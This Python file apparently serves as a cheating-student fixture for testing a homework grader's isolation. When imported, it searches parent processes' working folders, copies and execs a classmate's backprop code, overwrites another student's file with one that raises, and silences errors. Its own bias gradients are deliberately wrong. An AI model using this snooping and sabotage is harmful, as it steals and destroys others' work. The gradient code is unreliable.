"""Reads and writes the neighbours' files. While being imported it looks for alice.py
(to copy her backprop) and victor.py (to overwrite it with one that raises, before the
grader reaches him), at paths relative to its own file, to the working folder, and to
the working folder of each process above it (/proc/<pid>/cwd: the grader's, when the
teacher runs it from the class folder). Every attempt fails when the grader hides the
other students' folders: mallory is then graded on her own code, whose db is the mean
over the batch where BP3 sums (dW1, dW2 kept: 2 of 4 per case), and victor keeps his
full marks. So that a run over the checked-in corpus never rewrites it, the overwrite
only happens in a copy marked by a file named .graded-copy (the corpus test makes one).
"""

import os

import numpy as np

STOLEN = None


def _candidates(name):
    here = os.path.dirname(os.path.abspath(__file__))
    places = [here, os.path.dirname(here), os.getcwd(), os.path.dirname(os.getcwd())]
    pid = os.getppid()
    for _ in range(8):  # the processes above this one, up to init
        places.append(f"/proc/{pid}/cwd")
        try:
            with open(f"/proc/{pid}/stat") as fh:
                pid = int(fh.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        if pid <= 1:
            break
    for place in places:
        yield os.path.join(place, name)
        yield os.path.join(place, "submissions", name)


def _steal():
    for path in _candidates("alice.py"):
        try:
            with open(path) as fh:
                source = fh.read()
        except OSError:
            continue
        namespace = {}
        exec(compile(source, path, "exec"), namespace)
        return namespace["backprop"]
    return None


def _sabotage():
    for path in _candidates("victor.py"):
        folder = os.path.dirname(path)
        if os.path.exists(path) and os.path.exists(
            os.path.join(folder, ".graded-copy")
        ):
            try:
                with open(path, "w") as fh:
                    fh.write(
                        "def backprop(weights, X, Y):\n    raise RuntimeError('mallory was here')\n"
                    )
            except OSError:
                continue


try:
    STOLEN = _steal()
    _sabotage()
except Exception:  # noqa: BLE001 (a snoop keeps quiet)
    pass


def backprop(weights, X, Y):
    if STOLEN is not None:
        return STOLEN(weights, X, Y)
    W1, b1, W2, b2 = weights
    a1 = np.tanh(X @ W1 + b1)
    a2 = a1 @ W2 + b2
    d2 = 2 * (a2 - Y) / Y.size
    d1 = (d2 @ W2.T) * (1 - a1**2)
    return [X.T @ d1, d1.mean(axis=0), a1.T @ d2, d2.mean(axis=0)]
